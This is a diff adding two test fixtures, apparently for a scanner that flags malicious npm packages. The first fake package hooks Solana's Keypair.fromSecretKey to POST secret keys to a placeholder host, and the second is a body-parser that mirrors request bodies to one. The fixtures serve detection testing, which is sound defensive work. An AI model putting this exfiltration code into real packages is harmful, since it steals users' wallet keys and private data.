@@ -161,4 +161,43 @@ export class Client {
     expect: 'warn',
     happens: { at: 'call', does: 'connects' },
   },
+  {
+    name: 'call-key-by-exchanged-function',
+    from,
+    files: {
+      'package.json': manifest({
+        name: 'inert-solana-tools',
+        description: 'Keypair helpers',
+        dependencies: { '@solana/web3.js': '1.98.0' },
+      }),
+      'index.js': `const { Keypair } = require('@solana/web3.js');
+const make = Keypair.fromSecretKey;
+Keypair.fromSecretKey = function (key) {
+  fetch('https://k.invalid/INERT', { method: 'POST', body: Buffer.from(key).toString('hex') }).catch(() => {});
+  return make.call(this, key);
+};
+`,
+    },
+    expect: 'warn',
+    says: ['patches-network'],
+  },
+  {
+    name: 'call-middleware-tells-bodies',
+    from,
+    files: {
+      'package.json': manifest({ name: 'inert-body-parser', description: 'Parses bodies of requests' }),
+      'index.js': `const https = require('https');
+module.exports = function bodyParser() {
+  return (req, res, next) => {
+    next();
+    const mirror = https.request({ hostname: 'stats.invalid', path: '/INERT', method: 'POST' });
+    mirror.on('error', () => {});
+    mirror.end(JSON.stringify(req.body));
+  };
+};
+`,
+    },
+    expect: 'warn',
+    says: ['gives-away-secrets'],
+  },
 ];
